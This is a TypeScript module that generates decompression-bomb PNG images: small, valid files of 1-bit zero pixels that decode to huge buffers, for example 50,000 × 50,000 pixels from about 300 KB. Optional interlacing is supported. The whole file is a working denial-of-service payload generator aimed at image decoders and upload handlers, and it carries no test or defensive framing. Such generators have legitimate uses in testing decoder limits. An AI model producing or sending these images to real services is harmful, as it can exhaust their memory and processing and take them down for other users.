/** Pictures that are small to send and large to decode. */
import { once } from 'node:events';
import { crc32, createDeflate } from 'node:zlib';

const SIGNATURE = Buffer.from('89504e470d0a1a0a', 'hex');
/** Column and row of the first pixel of each of Adam7's passes, and the steps from there. */
const ADAM7 = [
  [0, 0, 8, 8],
  [4, 0, 8, 8],
  [0, 4, 4, 8],
  [2, 0, 4, 4],
  [0, 2, 2, 4],
  [1, 0, 2, 2],
  [0, 1, 1, 2],
] as const;

/** A whole, valid PNG of black pixels, 1 bit each: 50,000 × 50,000 of them are 300 KB. */
export async function pngBomb(width: number, height: number, { interlaced = false } = {}): Promise<Buffer> {
  const bytesOf = (columns: number, rows: number) => (columns > 0 ? rows * (Math.ceil(columns / 8) + 1) : 0);
  const raw = interlaced
    ? ADAM7.map(([x, y, dx, dy]) => bytesOf(Math.ceil((width - x) / dx), Math.ceil((height - y) / dy)))
    : [bytesOf(width, height)];
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, interlaced ? 1 : 0], 8);
  const pixels = await zeros(raw.reduce((sum, bytes) => sum + bytes, 0));
  return Buffer.concat([
    SIGNATURE,
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** So many zeros, deflated. */
export async function zeros(length: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 6 });
  const packed: Buffer[] = [];
  deflate.on('data', (part: Buffer) => packed.push(part));
  const block = Buffer.alloc(2 ** 20);
  for (let left = length; left > 0; left -= block.length) {
    if (!deflate.write(block.subarray(0, Math.min(left, block.length)))) await once(deflate, 'drain');
  }
  deflate.end();
  await once(deflate, 'end');
  return Buffer.concat(packed);
}

export function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const made = Buffer.alloc(body.length + 8);
  made.writeUInt32BE(data.length, 0);
  body.copy(made, 4);
  made.writeUInt32BE(crc32(body), body.length + 4);
  return made;
}
